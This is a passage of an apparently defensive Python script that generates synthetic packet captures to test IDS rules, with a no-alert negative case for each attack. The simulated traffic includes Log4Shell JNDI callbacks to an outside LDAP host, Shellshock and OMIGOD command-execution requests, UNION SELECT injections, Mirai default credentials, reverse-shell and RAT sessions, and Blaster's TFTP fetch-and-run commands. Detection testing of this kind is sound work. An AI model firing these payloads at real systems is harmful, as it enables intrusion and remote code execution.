    t.client(b"EHLO ${JNDI:ldap://198.51.100.9:1389/m}\r\n")
    t.server(b"250-mx.example.org\r\n250 PIPELINING\r\n")
    t.close()


def gen_log4shell_obfuscated(cap):
    variants = ["${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.9:1099/x}",
                "${${lower:j}ndi:" + CALLBACK + "}",
                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://198.51.100.9:1389/y}",
                "${j${upper:n}d${date:'i'}:" + CALLBACK + "}"]
    for i, v in enumerate(variants):
        exchange(cap, "192.0.2.103", WEB, 40120 + i, 8080, http_request(
            "GET", "/login", "shop.example.org", ["X-Api-Version: " + v, "User-Agent: Mozilla/5.0"]),
            http_response("401 Unauthorized"))


def gen_log4shell_urlencoded(cap):
    exchange(cap, "192.0.2.104", WEB, 40130, 8080, http_request(
        "GET", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%3A1389%2Fq%7D", "shop.example.org",
        ["User-Agent: Mozilla/5.0"]), http_response())


def gen_log4shell_negative(cap):
    body = b'{"greeting":"Hello ${user.name}","path":"${HOME}/bin:${PATH}","db":"${jdbc.url:jdbc:h2:mem:test}"}'
    exchange(cap, "10.1.1.60", WEB, 40140, 8080, http_request(
        "POST", "/api/templates", "shop.example.org", ["Content-Type: application/json"], body), http_response())
    exchange(cap, "192.0.2.105", WEB, 40142, 8080, http_request(
        "GET", "/docs/jndi-naming.html?filter=%7B%22topic%22%3A%22jndi%22%7D", "shop.example.org",
        ["User-Agent: Mozilla/5.0", "Referer: https://example.org/wiki/JNDI"]), http_response())


# ---------------------------------------------------------------------------
# Telnet credential guessing
# ---------------------------------------------------------------------------

BUSYBOX_LOGIN = b"\r\n(none) login: "


def telnet_login(cap, client, server, sport, dport, user, password, per_char=False, success=False):
    t = Tcp(cap, client, server, sport, dport, server_ttl=64, client_ttl=57)
    t.server(b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03")
    t.client(b"\xff\xfc\x01\xff\xfc\x1f\xff\xfe\x01\xff\xfe\x03")
    t.server(BUSYBOX_LOGIN)
    after_password = (b"\r\n\r\nBusyBox v1.31.1 built-in shell (ash)\r\n\r\n~ # " if success
                      else b"\r\nLogin incorrect\r\n" + BUSYBOX_LOGIN)
    for text, prompt in ((user, b"Password: "), (password, after_password)):
        if per_char:   # a person in character mode: one byte per segment
            for ch in text + "\r\n":
                t.client(ch.encode())
        else:
            t.client(text.encode() + b"\r\n")
        t.server(prompt)
    t.close()


def gen_telnet_mirai(cap):
    # One infected device works through the default list against many addresses.
    bot = "192.0.2.123"
    guesses = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"),
               ("support", "support"), ("root", "7ujMko0vizxv")]
    for i, (user, password) in enumerate(guesses):
        telnet_login(cap, bot, f"10.1.6.{10 + i}", 37000 + i, 23 if i % 2 == 0 else 2323, user, password)


def gen_telnet_negative(cap):
    telnet_login(cap, "10.1.6.200", "10.1.6.10", 40200, 23, "alice", "W4ter-Lily-91")
    telnet_login(cap, "10.1.6.201", "10.1.6.11", 40202, 23, "root", "Kx9!rT2#pQ")
    # Someone types the default by hand once (character mode, so not even counted).
    telnet_login(cap, "10.1.6.202", "10.1.6.12", 40204, 2323, "admin", "admin", per_char=True, success=True)
    # And one scripted default guess from one source: below the repetition threshold.
    telnet_login(cap, "192.0.2.124", "10.1.6.13", 40206, 23, "root", "xc3511")


# ---------------------------------------------------------------------------
# Scanners
# ---------------------------------------------------------------------------

def gen_scan_masscan(cap):
    scanner, sport = "192.0.2.200", 61000
    targets = [f"10.1.7.{h}" for h in (5, 6)]
    for i in range(40):
        dst, port = targets[i % 2], [21, 22, 23, 25, 80, 110, 143, 443, 445, 3389, 5432, 6379, 8080, 9200,
                                     11211, 27017, 3306, 1433, 5900, 8443][i // 2]
        syn = cap.rng.getrandbits(32)
        cap.emit(IP(src=scanner, dst=dst, ttl=255, id=cap.rng.getrandbits(16)) /
                 TCP(sport=sport, dport=port, flags="S", seq=syn, window=1024), inbound=True)
        nxt = (syn + 1) & 0xFFFFFFFF
        if port in (22, 80, 443):   # open: SYN-ACK, and the scanner host's kernel resets
            cap.emit(IP(src=dst, dst=scanner, ttl=64, flags="DF") / TCP(
                sport=port, dport=sport, flags="SA", seq=cap.rng.getrandbits(32), ack=nxt, window=65160,
                options=[("MSS", 1460)]), inbound=False)
            cap.emit(IP(src=scanner, dst=dst, ttl=64) / TCP(sport=sport, dport=port, flags="R", seq=nxt, window=0),
                     inbound=True)
        else:                       # closed
            cap.emit(IP(src=dst, dst=scanner, ttl=64, flags="DF") / TCP(sport=port, dport=sport, flags="RA", seq=0,
                                                                        ack=nxt, window=0), inbound=False)


def gen_scan_zgrab(cap):
    scanner = "192.0.2.210"
    for i, host in enumerate(("10.1.7.5", "10.1.7.6", "10.1.7.7")):
        exchange(cap, scanner, host, 45100 + i, 80, http_request(
            "GET", "/", host, ["User-Agent: Mozilla/5.0 zgrab/0.x", "Accept: */*", "Accept-Encoding: gzip"]),
            http_response(), client_ttl=50)


def gen_scan_nmap_nse(cap):
    scanner = "192.0.2.211"
    ua = "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
    exchange(cap, scanner, "10.1.7.5", 45200, 80, http_request("GET", "/", "10.1.7.5", ["Connection: close", ua]),
             http_response(), client_ttl=50)
    exchange(cap, scanner, "10.1.7.5", 45202, 80, http_request("OPTIONS", "/", "10.1.7.5", [ua]),
             http_response("405 Not Allowed"), client_ttl=50)


def gen_scan_nmap_version(cap):
    scanner = "192.0.2.212"
    exchange(cap, scanner, "10.1.7.6", 45300, 8080, b"GET / HTTP/1.0\r\n\r\n", http_response(), client_ttl=50)
    exchange(cap, scanner, "10.1.7.6", 45302, 8080, b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n",
             http_response("404 Not Found"), client_ttl=50)


def gen_scan_negative(cap):
    # Ordinary clients: Linux and Windows SYNs, and a small embedded stack that also uses
    # a 1024-byte window but the usual TTL.
    exchange(cap, "198.51.100.30", "10.1.7.5", 50300, 443, b"\x16\x03\x01\x00\x05hello", b"\x16\x03\x03\x00\x02ok")
    exchange(cap, "198.51.100.31", "10.1.7.5", 50302, 443, b"\x16\x03\x01\x00\x05hello", b"\x16\x03\x03\x00\x02ok",
             client_ttl=128, client_options=WINDOWS_SYN_OPTIONS)
    exchange(cap, "10.1.7.90", "10.1.7.5", 50304, 1883, b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c", b"\x20\x02\x00\x00",
             client_window=1024, client_options=[("MSS", 536)], client_inbound=False)
    # Web clients that mention the tools without being them.
    exchange(cap, "198.51.100.32", "10.1.7.5", 50306, 80, http_request(
        "GET", "/search?q=Nmap+Scripting+Engine", "10.1.7.5",
        ["User-Agent: curl/8.5.0", "Referer: https://github.com/zmap/zgrab2"]), http_response())
    exchange(cap, "198.51.100.33", "10.1.7.5", 50308, 80, http_request(
        "GET", "/blog/scanners", "10.1.7.5", ["User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)"]),
        http_response(body=b"<p>Seen this week: masscan, zgrab and the Nmap Scripting Engine.</p>\n"))


# ---------------------------------------------------------------------------
# Shellshock
# ---------------------------------------------------------------------------

def gen_shellshock(cap):
    exchange(cap, "192.0.2.150", WEB, 41000, 80, http_request(
        "GET", "/cgi-bin/status", "10.1.1.20", ["User-Agent: () { :; }; /bin/bash -c 'id'", "Accept: */*"]),
        http_response("500 Internal Server Error"))
    exchange(cap, "192.0.2.150", WEB, 41002, 80, http_request(
        "GET", "/cgi-bin/test.cgi", "10.1.1.20",
        ["User-Agent: Mozilla/5.0", "Cookie: () { _; } >_[$($())] { echo; /bin/uname -a; }"]),
        http_response("500 Internal Server Error"))


def gen_shellshock_negative(cap):
    js = b"var ready = function () { return document.readyState; };\nwindow.onload = () => { init(); };\n"
    exchange(cap, "10.1.1.61", WEB, 41100, 80, http_request(
        "POST", "/static/upload", "10.1.1.20", ["Content-Type: application/javascript"], js), http_response())
    exchange(cap, "198.51.100.40", WEB, 41102, 80, http_request(
        "GET", "/search?q=bash+function+()+{", "10.1.1.20", ["User-Agent: Mozilla/5.0"]), http_response())



# ---------------------------------------------------------------------------
# OMIGOD (OMI on Azure Linux VMs)
# ---------------------------------------------------------------------------

OMI_HOST = "10.1.1.30"
SCX = "http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"


def omi_envelope(method, inner, action=None):
    action = action or f"{SCX}/{method}"
    return (f'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
            f'xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
            f'xmlns:w="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd"><s:Header>'
            f'<a:To>HTTP://{OMI_HOST}:5985/wsman/</a:To><w:ResourceURI s:mustUnderstand="true">{SCX}</w:ResourceURI>'
            f'<a:Action>{action}</a:Action><w:MaxEnvelopeSize s:mustUnderstand="true">102400</w:MaxEnvelopeSize>'
            f'<w:SelectorSet><w:Selector Name="__cimnamespace">root/scx</w:Selector></w:SelectorSet></s:Header>'
            f'<s:Body><p:{method}_INPUT xmlns:p="{SCX}">{inner}</p:{method}_INPUT></s:Body></s:Envelope>').encode()


def omi_post(body, auth=None):
    headers = ["Content-Type: application/soap+xml;charset=UTF-8", "User-Agent: python-requests/2.25.1"]
    if auth:
        headers.insert(0, f"Authorization: {auth}")
    return http_request("POST", "/wsman", f"{OMI_HOST}:5985", headers, body)


OMI_ROOT_REPLY = http_response(body=(f'<SOAP-ENV:Envelope><SOAP-ENV:Body><p:SCX_OperatingSystem_OUTPUT xmlns:p="{SCX}">'
                                     f'<p:ReturnValue>TRUE</p:ReturnValue><p:StdOut>uid=0(root) gid=0(root) groups=0(root)'
                                     f'</p:StdOut></p:SCX_OperatingSystem_OUTPUT></SOAP-ENV:Body></SOAP-ENV:Envelope>').encode(),
                               ctype="application/soap+xml;charset=UTF-8")


def gen_omigod(cap):
    attacker = "192.0.2.160"
    # The public PoCs: headers in one segment, the envelope in the next.
    req = omi_post(omi_envelope("ExecuteShellCommand", "<p:command>id</p:command><p:timeout>0</p:timeout>"))
    head = req.index(b"\r\n\r\n") + 4
    t = Tcp(cap, attacker, OMI_HOST, 47342, 5985)
    t.client(req[:head])
    t.client(req[head:])
    t.server(OMI_ROOT_REPLY)
    t.close()
    # ExecuteScript with a base64 script, the whole request in one segment.
    exchange(cap, attacker, OMI_HOST, 47344, 5985, omi_post(omi_envelope(
        "ExecuteScript", "<p:Script>aWQ7IHVuYW1lIC1h</p:Script><p:Arguments></p:Arguments><p:timeout>0</p:timeout>"
                         "<p:b64encoded>true</p:b64encoded>")), OMI_ROOT_REPLY)


def gen_omigod_negative(cap):
    admin = "10.1.1.62"
    # The same call with credentials (Basic and Negotiate), as Azure's own agents make it.
    exchange(cap, admin, OMI_HOST, 47400, 5985, omi_post(
        omi_envelope("ExecuteShellCommand", "<p:command>uptime</p:command><p:timeout>0</p:timeout>"),
        auth="Basic b21pYWRtaW46UzNjcmV0IQ=="), OMI_ROOT_REPLY)
    exchange(cap, admin, OMI_HOST, 47402, 5985, omi_post(
        omi_envelope("ExecuteScript", "<p:Script>dXB0aW1l</p:Script><p:timeout>0</p:timeout>"),
        auth="Negotiate TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw=="), OMI_ROOT_REPLY)
    # Unauthenticated, but only reading the OS class (Enumerate): no command runs.
    exchange(cap, "192.0.2.161", OMI_HOST, 47404, 5985, omi_post(omi_envelope(
        "Enumerate", "", action="http://schemas.xmlsoap.org/ws/2004/09/enumeration/Enumerate")),
        http_response("401 Unauthorized", body=b""))


# ---------------------------------------------------------------------------
# SQL injection: UNION SELECT in a request line
# ---------------------------------------------------------------------------

SHOP = "10.1.1.40"           # a tenant's PHP shop on port 80
BROWSER_HEADERS = ["User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
                   "Accept: text/html,application/xhtml+xml,*/*;q=0.8", "Connection: close"]


def gen_sqli_union(cap):
    attacker = "192.0.2.180"
    paths = [
        # What sqlmap and hand-written attacks send: '+', %20 with ALL, upper-case %2B,
        # comments instead of spaces, tab and line-break escapes with DISTINCT.
        "/product.php?id=-1%27+union+select+1%2Cconcat%28user%2C0x3a%2Cpassword%29%2C3+from+users--+-",
        "/product.php?id=7%20UNION%20ALL%20SELECT%20NULL%2CNULL%2C@@version--%20",
        "/catalog/item?cat=2%2BuNiOn%2BsElEcT%2Btable_name%2Cnull%2BfROM%2Binformation_schema.tables",
        "/news.php?id=1/**/UNION/**/SELECT/**/1,2,group_concat(schema_name)/**/FROM/**/information_schema.schemata",
        "/news.php?id=1%09UnIoN%0aDISTINCT%0dSELECT%281%29,2,3",
    ]
    for i, path in enumerate(paths):
        exchange(cap, attacker, SHOP, 42000 + 2 * i, 80, http_request("GET", path, SHOP, BROWSER_HEADERS),
                 http_response(body=b"<html><body><td>5.7.42-0ubuntu0.18.04.1</td></body></html>\n"))
        cap.pause(0.4)


def gen_sqli_negative(cap):
    user = "198.51.100.60"
    # 'union' and 'select' as ordinary values of parameters far apart.
    exchange(cap, user, SHOP, 42100, 80, http_request(
        "GET", "/members/list?type=union&region=north&page=2&per_page=50&view=table&action=select&lang=en",
        SHOP, BROWSER_HEADERS), http_response())
    # Searches: "select union" (wrong order), "trade union selection", "European Union selects".
    for i, q in enumerate(["select+union", "trade%20union%20selection", "European+Union+selects+new+members",
                           "reunion+select+dates"]):
        exchange(cap, user, SHOP, 42102 + 2 * i, 80, http_request("GET", f"/search?q={q}", SHOP, BROWSER_HEADERS),
                 http_response())
    # A database admin tool posts SQL with a UNION SELECT in the body, not in the request line;
    # the answer page shows the query too.
    sql = b"sql_query=SELECT+id%2C+name+FROM+shop.customers+UNION+SELECT+id%2C+name+FROM+shop.suppliers&db=shop"
    exchange(cap, "10.1.1.63", SHOP, 42120, 80, http_request(
        "POST", "/phpmyadmin/index.php?route=/sql", SHOP,
        ["Content-Type: application/x-www-form-urlencoded"] + BROWSER_HEADERS, sql),
        http_response(body=b"<pre>SELECT id, name FROM shop.customers UNION SELECT id, name FROM shop.suppliers</pre>\n"))


# ---------------------------------------------------------------------------
# Client-side exploits: the Aurora page (CVE-2010-0249)
# ---------------------------------------------------------------------------

EXPLOIT_SERVER = "192.0.2.170"
BROWSER = "10.1.2.40"
IE6_HEADERS = ["Accept: image/gif, image/x-xbitmap, image/jpeg, image/pjpeg, */*", "Accept-Language: en-us",
               "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", "Connection: Keep-Alive"]


def rand_name(rng, n):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(n))


def gen_aurora(cap):
    rng = cap.rng
    blob, xored, key, out = (rand_name(rng, rng.randint(3, 24)) for _ in range(4))
    page = ("<html>\n<head>\n<script>\n"
            f"\tvar {blob} = '{hexstr(rng, 3000)}';\n"
            f"\tvar {xored} = '';\n"
            f"\tfor (i = 0;i<{blob}.length;i+=2) {{\n"
            f"\t\t{xored} += String.fromCharCode(parseInt({blob}.substring(i, i+2), 16));\n\t}}\n"
            f"\tvar {key} = location.search.substring(1);\n"
            f"\tvar {out} = '';\n"
            f"\tfor (i=0;i<{xored}.length;i++) {{\n"
            f"\t\t{out} += String.fromCharCode({xored}.charCodeAt(i) ^ {key}.charCodeAt(i%{key}.length));\n\t}}\n"
            f"\twindow[\"eVaKl\".replace(/[A-Z]/g,\"\")]({out});\n"
            "</script>\n</head>\n<body><span><iframe src=\"/infoQx.gif\" /></span></body></html>\n").encode()
    t = Tcp(cap, BROWSER, EXPLOIT_SERVER, 1031, 80, client_ttl=128, client_options=WINDOWS_SYN_OPTIONS,
            client_inbound=False)
    t.client(http_request("GET", "/info", EXPLOIT_SERVER, IE6_HEADERS))
    t.server(b"HTTP/1.1 302 Moved\r\nLocation: /info?rFfWELUjLJHpP\r\nContent-Length: 0\r\n\r\n")
    t.client(http_request("GET", "/info?rFfWELUjLJHpP", EXPLOIT_SERVER, IE6_HEADERS))
    t.server(http_response(body=page))
    t.client(http_request("GET", "/infoQx.gif", EXPLOIT_SERVER, IE6_HEADERS))
    t.server(http_response(body=b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
                                b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", ctype="image/gif"))
    t.close()


def gen_aurora_negative(cap):
    # Ordinary scripts with the same building blocks: a query-string parser, a character
    # decoder, a replace() of capitals; none feeds eval through window[...].
    js = (b"var params = location.search.substring(1).split('&');\n"
          b"var code = ''; for (i=0;i<raw.length;i++) { code += String.fromCharCode(raw.charCodeAt(i) ^ 32); }\n"
          b"var slug = title.replace(/[A-Z]/g,\"\").toLowerCase();\n"
          b"window[\"onload\"] = function () { render(params, code, slug); };\n")
    t = Tcp(cap, "10.1.2.41", "198.51.100.60", 50500, 80, client_inbound=False)
    t.client(http_request("GET", "/static/app.js", "cdn.example.net", ["User-Agent: Mozilla/5.0"]))
    t.server(http_response(body=js, ctype="application/javascript"))
    t.close()


# ---------------------------------------------------------------------------
# Trojans: reverse shells and RAT command channels
# ---------------------------------------------------------------------------

XP_BANNER = b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n"


def gen_reverse_shell(cap):
    # The Aurora victim calls the attacker back on 4321: the stage comes in (a length,
    # then the shellcode), cmd.exe's banner goes out in two segments.
    t = Tcp(cap, BROWSER, EXPLOIT_SERVER, 1032, 4321, client_ttl=128, client_options=WINDOWS_SYN_OPTIONS,
            client_inbound=False)
    t.server(b"\xf0\x00\x00\x00")
    t.server(bytes.fromhex("fce8890000006089e531d2648b52308b520c8b52148b72280fb74a2631ff31c0ac3c617c022c20")
             + bytes(cap.rng.getrandbits(8) for _ in range(200)))
    t.client(XP_BANNER[:39])
    t.client(XP_BANNER[39:] + b"C:\\Documents and Settings\\Administrator\\Desktop>")
    t.server(b"dir\n")
    t.client(b"dir\n Volume in drive C has no label.\r\n\r\nC:\\Documents and Settings\\Administrator\\Desktop>")
    t.close()
    # A Windows 10 cmd.exe piped to a socket (netcat -e cmd.exe) on 443.
    t = Tcp(cap, "10.1.2.42", "192.0.2.171", 50110, 443, client_ttl=128, client_options=WINDOWS_SYN_OPTIONS,
            client_inbound=False)
    t.client(b"Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\n"
             b"C:\\Users\\build>")
    t.server(b"whoami\r\n")
    t.client(b"whoami\r\nci\\build\r\n\r\nC:\\Users\\build>")
    t.close()


RAT_HOST = "10.1.2.50"
RAT_CONTROLLER = "192.0.2.180"


def gen_rat_anabilgi(cap):
    t = Tcp(cap, RAT_HOST, RAT_CONTROLLER, 6641, 4433, client_ttl=128, client_options=WINDOWS_SYN_OPTIONS,
            client_inbound=False)
    t.server(b"ANABILGI|556\r\n")
    t.client(b"ANABILGI|10.1.2.50|US|rat1|NO|Administrator / WS-0042|Windows XP Service Pack 3|"
             b"Intel(R) Core(TM)2 Duo CPU     T9600  @ 2.80GHz|511 MB|1.2|7/18/2010|\n")
    for _ in range(3):
        t.client(b"BAGLIMI?\n")
        cap.pause(1.0)
    t.server(b"CAPSCREEN60\r\n")
    # The controller opens a data connection for the screenshot.
    u = Tcp(cap, RAT_HOST, RAT_CONTROLLER, 6643, 4433, client_ttl=128, client_options=WINDOWS_SYN_OPTIONS,
            client_inbound=False)
    u.server(b"ANABILGI|12\r\n")
    u.client(b"SH|556\n")
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(
        cap.rng.getrandbits(8) for _ in range(3000)) + b"\xff\xd9"
    u.client(b"CAPSCREEN|C:\\WINDOWS\\jpgevhook.dat|%d\n" % len(jpeg) + jpeg)
    u.close()
    t.close()


def gen_trojan_negative(cap):
    # A telnet server on Windows greets its client with cmd.exe's banner: to the client.
    t = Tcp(cap, "10.1.2.61", "10.1.2.43", 50200, 23, client_inbound=False, server_ttl=128)
    t.server(XP_BANNER + b"C:\\>")
    t.client(b"dir\r\n")
    t.close()
    # A help-desk page quoting the banner, and an analyst's write-up that names the RAT's
    # commands: text inside an HTTP body, not at the start of a segment.
    exchange(cap, "10.1.2.62", "198.51.100.61", 50202, 80, http_request(
        "GET", "/kb/cmd-banner", "help.example.org", ["User-Agent: Mozilla/5.0"]), http_response(
        body=b"<pre>Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation.</pre>\n"
             b"<p>Seen on 4433: ANABILGI|10.0.0.5|US|rat1|...|Windows XP| and CAPSCREEN|C:\\x.dat|9\n</p>\n"),
        client_inbound=False)
    exchange(cap, "10.1.2.63", "198.51.100.62", 50204, 8080, http_request(
        "POST", "/notes", "wiki.example.org", ["Content-Type: text/plain"],
        b"ANABILGI|10.0.0.5|US|rat1|NO|x|Windows XP|\nCAPSCREEN|C:\\x.dat|9\n\xff\xd8\xff"), http_response(),
        client_inbound=False)


# ---------------------------------------------------------------------------
# Worms: Blaster (MS03-026)
# ---------------------------------------------------------------------------

def gen_blaster(cap):
    infected, victim = "192.0.2.190", "10.1.2.60"
    # A whole session: the bind shell's prompt, the TFTP fetch, start, the bare name.
    t = Tcp(cap, infected, victim, 1793, 4444, client_ttl=113, server_ttl=128, client_options=WINDOWS_SYN_OPTIONS)
    t.server(b"Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n\r\n"
             b"C:\\WINNT\\system32>")
    for cmd in (b"tftp -i 192.0.2.190 GET msblast.exe\n", b"start msblast.exe\n", b"msblast.exe\n"):
        t.client(cmd)
        t.server(cmd + b"\r\nC:\\WINNT\\system32>")
        cap.pause(1.5)
    t.close()
    # Picked up mid-connection (no handshake): each command is matched in its packet.
    t = Tcp(cap, infected, "10.1.2.61", 1794, 4444, client_ttl=113, server_ttl=128, handshake=False)
    t.server(b"\r\nC:\\WINNT\\system32>")
    t.client(b"start penis32.exe\n")
    t.client(b"penis32.exe\n")


def gen_blaster_negative(cap):
    # A removal guide downloaded over HTTP, and an ordinary service on 4444 whose client
    # starts programs and deletes the worm.
    exchange(cap, "10.1.2.64", "198.51.100.63", 50300, 80, http_request(
        "GET", "/tools/remove-msblast.exe", "av.example.com", ["User-Agent: Mozilla/5.0"]),
        http_response(body=b"start msblast.exe\nmsblast.exe\n", ctype="text/plain"), client_inbound=False)
    t = Tcp(cap, "10.1.2.65", "10.1.2.66", 50302, 4444, client_inbound=False)
    t.server(b"C:\\tools>")
    t.client(b"start notepad.exe\n")
    t.client(b"del C:\\WINDOWS\\system32\\msblast.exe\n")
    t.client(b"msblast.exe.bak\n")
    t.close()


# ---------------------------------------------------------------------------
# Scenarios: name -> (generator, description, expected alerts as [(sid, count)])
# ---------------------------------------------------------------------------

SCENARIOS = {
    "mining-subscribe": (gen_mining_subscribe, "A miner sends Stratum mining.subscribe; the pool's answer names mining.notify only as a subscription, so 9100004 stays quiet.", [(9100001, 1)]),
    "mining-authorize": (gen_mining_authorize, "A miner logs in to a Stratum pool with mining.authorize.", [(9100002, 1)]),
    "mining-submit": (gen_mining_submit, "Five mining.submit shares on one connection: one alert (threshold limit, by miner and pool, an hour).", [(9100003, 1)]),
    "mining-notify-midstream": (gen_mining_notify_midstream, "The tap starts while a miner is working: no handshake, the pool pushes three mining.notify jobs; one alert.", [(9100004, 1)]),
    "mining-stratum-session": (gen_mining_stratum_session, "A whole Stratum session: subscribe, authorize, four notify pushes and three submits.", [(9100001, 1), (9100002, 1), (9100003, 1), (9100004, 1)]),
    "monero-login": (gen_monero_login, "A CryptoNote stratum login with a Monero wallet address as the user, no agent; the pool refuses it.", [(9100005, 1)]),
    "xmrig-login": (gen_xmrig_login, "XMRig logs in with a Bitcoin payout address: only the agent rule fires.", [(9100006, 1)]),
    "monero-job-midstream": (gen_monero_job_midstream, "Picked up mid-stream: a CryptoNote pool pushes three jobs (blob, job_id, target); one alert.", [(9100007, 1)]),
    "xmrig-session": (gen_xmrig_session, "XMRig with a Monero wallet: login (wallet and agent), the job in the login answer and two more pushes, two submits.", [(9100005, 1), (9100006, 1), (9100007, 1)]),
    "eth-submitlogin": (gen_eth_submitlogin, "An Ethereum miner logs in to a stratum proxy with eth_submitLogin, then asks for work.", [(9100008, 1)]),
    "mining-negative": (gen_mining_negative, "JSON-RPC that is not mining (a calculator, an editor backend, an Ethereum node), a web login with method/login/pass/agent, a page about Stratum: no alert.", []),
    "smb-trans2-session-setup": (gen_smb_trans2_session_setup, "SMBv1 negotiate, anonymous session, IPC$, then the Trans2 SESSION_SETUP ping; the clean server answers with multiplex id 65.", [(9100101, 1)]),
    "smb-doublepulsar-implant": (gen_smb_doublepulsar_implant, "The same ping, answered by an infected server with multiplex id 81.", [(9100101, 1), (9100102, 1)]),
    "smb-eternalblue-nttrans": (gen_smb_eternalblue_nttrans, "NT Trans with function 0 and a 66,512-byte TotalDataCount, continued with Trans2 secondaries.", [(9100103, 1)]),
    "smb-smbghost-check": (gen_smb_smbghost_check, "An SMB 3.1.1 negotiate offering LZNT1 compression with a zero client GUID and zero salt (a CVE-2020-0796 check).", [(9100104, 1)]),
    "smb-smbghost-exploit": (gen_smb_smbghost_exploit, "A normal 3.1.1 negotiate, then a compression transform header with Offset 0xffffffff.", [(9100105, 1)]),
    "smb-negative": (gen_smb_negative, "A Windows SMB 3.1.1 negotiate with compression (random GUID and salt), NTLM session setup, a sanely sized compressed message; an SMBv1 client with Trans2 FIND_FIRST2 and an NT Trans IOCTL: no alert.", []),
    "rdp-bluekeep": (gen_rdp_bluekeep, "Two standard-security RDP connections whose MCS Connect-Initial asks for MS_T120 (once as MS_t120).", [(9100201, 2)]),
    "rdp-negative": (gen_rdp_negative, "A standard-security RDP connection with rdpdr, rdpsnd, cliprdr and drdynvc, and a TLS/CredSSP one: no alert.", []),
    "log4shell-plain": (gen_log4shell_plain, "${jndi:ldap://...} in an HTTP User-Agent and (upper case) in an SMTP EHLO.", [(9100301, 2)]),
    "log4shell-obfuscated": (gen_log4shell_obfuscated, "Four obfuscated lookups: ${::-j}, ${lower:j}, ${env:NaN:-j} with a nested ':', ${upper:n} with ${date:'i'}.", [(9100302, 4)]),
    "log4shell-urlencoded": (gen_log4shell_urlencoded, "A URL-encoded %24%7Bjndi%3A in a query string.", [(9100303, 1)]),
    "log4shell-negative": (gen_log4shell_negative, "Templates with ${user.name}, ${HOME}, ${jdbc.url:...}, a page about JNDI, an encoded JSON filter: no alert.", []),
    "telnet-mirai": (gen_telnet_mirai, "One bot tries six Mirai default credential pairs on telnet (23 and 2323) at six addresses: alerts from the fourth guess on (detection_filter count 3).", [(9100403, 3)]),
    "telnet-negative": (gen_telnet_negative, "Logins with non-default passwords, a default typed by hand in character mode, one scripted default guess: no alert.", []),
    "scan-masscan": (gen_scan_masscan, "masscan-style SYNs (window 1024, TTL 255, no options) to 20 ports on two hosts, with the answers: one alert.", [(9100501, 1)]),
    "scan-zgrab": (gen_scan_zgrab, "zgrab fetches / from three hosts: one alert for the source.", [(9100502, 1)]),
    "scan-nmap-nse": (gen_scan_nmap_nse, "Two NSE HTTP requests from one scanner: one alert.", [(9100503, 1)]),
    "scan-nmap-version": (gen_scan_nmap_version, "Nmap service detection: GET / and the nice ports / Trinity.txt.bak probe.", [(9100504, 1)]),
    "scan-negative": (gen_scan_negative, "Linux, Windows and embedded (window 1024, TTL 64) clients; pages and searches that name the tools: no alert.", []),
    "shellshock": (gen_shellshock, "'() {' in a User-Agent and in a Cookie to CGI scripts on port 80.", [(9100601, 2)]),
    "shellshock-negative": (gen_shellshock_negative, "JavaScript with function () { ... }; and a search for 'bash function () {': no alert.", []),
    "omigod": (gen_omigod, "Unauthenticated OMI SOAP calls to 5985: ExecuteShellCommand (headers and envelope in two segments, the reply shows uid=0) and ExecuteScript (one segment).", [(9100602, 2)]),
    "omigod-negative": (gen_omigod_negative, "The same OMI calls with Basic and Negotiate Authorization, and an unauthenticated Enumerate that runs nothing: no alert.", []),
    "sqli-union": (gen_sqli_union, "UNION SELECT injections in query strings to port 80: '+' and %27, %20 with ALL, mixed case with %2B, /**/ comments, %09 %0a %0d with DISTINCT; one alert each.", [(9100603, 5)]),
    "sqli-negative": (gen_sqli_negative, "'union' and 'select' as values of parameters far apart, searches for 'select union', 'trade union selection', 'European Union selects', 'reunion select', and a database admin tool posting a UNION SELECT in the body: no alert.", []),
    "aurora": (gen_aurora, "An IE6 browser is redirected to the Aurora page: hex blob, XOR with location.search, window[\"eVaKl\".replace(/[A-Z]/g,\"\")]; one alert on the page.", [(9100701, 1)]),
    "aurora-negative": (gen_aurora_negative, "A script that parses location.search, decodes characters with XOR and strips capitals, without the eval trick: no alert.", []),
    "reverse-shell": (gen_reverse_shell, "Two reverse shells: the Aurora victim's Windows XP cmd.exe on 4321 (banner split over two segments) and a Windows 10 cmd.exe on 443.", [(9100801, 2)]),
    "rat-anabilgi": (gen_rat_anabilgi, "The RAT on 4433: ANABILGI check-in, BAGLIMI? keep-alives, then a CAPSCREEN upload with a JPEG on a second connection.", [(9100802, 1), (9100803, 1)]),
    "trojan-negative": (gen_trojan_negative, "A Windows telnet server's banner to its client, pages and notes that quote the cmd.exe banner and the RAT's commands: no alert.", []),
